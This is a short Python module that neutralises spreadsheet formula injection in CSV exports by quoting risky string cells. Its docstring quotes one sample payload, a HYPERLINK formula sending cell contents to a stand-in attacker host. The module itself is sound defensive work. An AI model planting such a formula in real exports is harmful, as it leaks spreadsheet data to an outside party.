"""CSV cells a spreadsheet will not run as formulas (OWASP "CSV injection"), for every CSV GapBridge serves.

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return as a formula, so a title such as ``=HYPERLINK("http://evil.example/?"&A1,"click")`` becomes a
live link that leaks the sheet. A leading single quote makes such a cell text. Only strings are touched:
numbers stay numbers, so a negative amount is written as it is.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, value: str, /) -> Any: ...


def cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is a string a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(v) for v in values]


class Writer:
    """``csv.writer`` whose rows are made safe cell by cell (same arguments, same return values)."""

    def __init__(self, handle: _Writable, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(row(values))
